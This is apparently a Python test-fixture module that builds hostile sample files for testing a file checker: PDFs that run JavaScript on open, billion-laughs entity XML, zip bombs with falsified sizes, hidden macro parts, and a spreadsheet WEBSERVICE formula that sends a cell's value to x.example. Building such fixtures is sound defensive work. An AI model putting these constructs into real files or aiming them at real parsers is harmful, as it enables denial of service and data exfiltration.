"""Makes hostile files: each function returns the bytes of one, small enough to make sixty of them in a moment."""

import re
import struct
import zipfile
import zlib
from io import BytesIO

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

from tests.files import HEAD, PACKAGE, SHEET, TYPE, WORD, docx, docx_parts, pdf, xlsx_parts, zipped

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
END = b"%%EOF"


def named(**values):
    """Return a dictionary of a PDF."""
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in values.items()})


def name(value):
    return NameObject(f"/{value}")


def text(value):
    return TextStringObject(value)


SCRIPT = named(S=name("JavaScript"), JS=text("app.alert(1)"))


def opening(action):
    """Return a PDF that does something when it is opened."""
    return pdf(lambda writer: writer.root_object.update({name("OpenAction"): writer._add_object(action)}))


def noted(note):
    """Return a PDF with an annotation on its first page."""
    return pdf(lambda writer: writer.pages[0].update({name("Annots"): ArrayObject([note])}))


def page_with(**values):
    return pdf(lambda writer: writer.pages[0].update(named(**values)))


def root_with(**values):
    return pdf(lambda writer: writer.root_object.update(named(**values)))


def with_object(written):
    """Return a PDF with one more object that no table names, before its table."""
    plain = pdf()
    place = plain.rindex(b"xref\n0")
    longer = plain[:place] + b"99 0 obj\n" + written + b"\nendobj\n" + plain[place:]
    return re.sub(
        rb"startxref\n(\d+)", lambda found: b"startxref\n%d" % (int(found[1]) + len(longer) - len(plain)), longer
    )


def stream_of_objects(content, more=b""):
    packed = zlib.compress(content)
    head = b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode %s /Length %d >>" % (more, len(packed))
    return with_object(head + b"\nstream\n" + packed + b"\nendstream")


def overwritten():
    """Return a PDF whose script was replaced in a later part of the file, and is in the bytes still."""
    first = opening(SCRIPT)
    root = int(re.search(rb"/Root (\d+) 0 R", first)[1])
    place = len(first) + 1
    written = b"%d 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\n" % root
    table = b"xref\n%d 1\n%010d 00000 n \n" % (root, place)
    before = int(re.search(rb"startxref\n(\d+)", first)[1])
    end = b"trailer\n<< /Size 20 /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        root,
        before,
        place + len(written),
    )
    return first + b"\n" + written + table + end


def external_stream(writer):
    stream = StreamObject()
    stream.update(named(F=text("\\\\server\\share\\x")))
    writer.pages[0][name("Contents")] = writer._add_object(stream)


def looped_pages(writer):
    pages = writer.root_object["/Pages"]
    pages[name("Kids")] = ArrayObject([pages.indirect_reference])
    pages[name("Count")] = NumberObject(1)


def locked(writer: PdfWriter) -> None:
    writer.encrypt("secret")


def before_its_end(inserted):
    plain = pdf()
    place = plain.rindex(END)
    return plain[:place] + b"%" + inserted + b"\n" + plain[place:]


def tarred():
    plain = pdf(pages=4)
    return plain[:257] + b"ustar" + plain[262:]


def field(code):
    parts = "".join(
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{each}</w:instrText></w:r>' for each in code
    )
    return f"<w:p>{parts}</w:p>"


def declared(declaration, used="&a;"):
    """Return a document that declares entities of its own."""
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>{used}</w:t></w:r></w:p></w:body></w:document>'
    return zipped(docx_parts() | {"word/document.xml": f'<?xml version="1.0"?>{declaration}{body}'})


LAUGHS = "<!DOCTYPE w [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{number + 1} '{f'&a{number};' * 10}'>" for number in range(9)
) + "]>"  # fmt: skip


def overlapping():
    """Return a document in whose list every part has the bytes of the same one."""
    whole = bytearray(docx(text="x" * 4000))
    place = whole.rindex(b"PK\x01\x02")
    struct.pack_into("<L", whole, place + 42, 0)
    return bytes(whole)


def flagged():
    """Return a document whose parts are said to be encrypted."""
    whole = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = whole.index(mark)
        struct.pack_into("<H", whole, start + place, 1)
    return bytes(whole)


def doubled():
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for part, content in docx_parts().items():
            archive.writestr(part, content)
        archive.writestr("WORD/Document.xml", "<x/>")
    return out.getvalue()


def deep(levels=2000):
    return zipped(docx_parts() | {"word/document.xml": "<a>" * levels + "</a>" * levels})


def document_leading(kind, target, outside):
    return docx(links=((kind, target, outside),))


def macro_document():
    return docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml")


def with_macros():
    types = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    return docx(types=types, word__vbaProject_dot_bin=OLE)


def hidden_macros():
    return zipped(docx_parts() | {"word/media/image1.png": OLE})


def macro_sheet():
    types = ' <Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
    parts = xlsx_parts()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace("</Types>", types)
    return zipped(parts | {"xl/macrosheets/sheet1.xml": f'<xm:macrosheet xmlns:xm="{SHEET}"/>'})


def workbook_leading(kind, target, outside=False):
    return zipped(xlsx_parts(links=((kind, target, outside),)))


def fetching():
    return zipped(xlsx_parts(cells='<row><c><f>WEBSERVICE("https://x.example/?"&amp;A1)</f></c></row>'))


def without_document():
    parts = docx_parts()
    del parts["word/document.xml"]
    return zipped(parts)


def presentation():
    types = f'{HEAD}<Types xmlns="{PACKAGE}/content-types"/>'
    return zipped({"[Content_Types].xml": types, "ppt/presentation.xml": "<p/>"})


def open_document():
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office/>")
    return out.getvalue()


def template():
    return docx(kind=f"{TYPE}.wordprocessingml.template.main+xml")


def many_parts():
    return zipped(docx_parts() | {f"word/media/{number}.png": b"" for number in range(3100)}, zipfile.ZIP_STORED)


def bomb():
    return zipped(docx_parts() | {"word/media/image1.bmp": bytes(40 * 2**20)})


def lying_bomb():
    """Return a bomb that says it is small."""
    whole = bytearray(bomb())
    place = whole.rindex(b"PK\x01\x02")
    struct.pack_into("<L", whole, place + 24, 100)
    return bytes(whole)
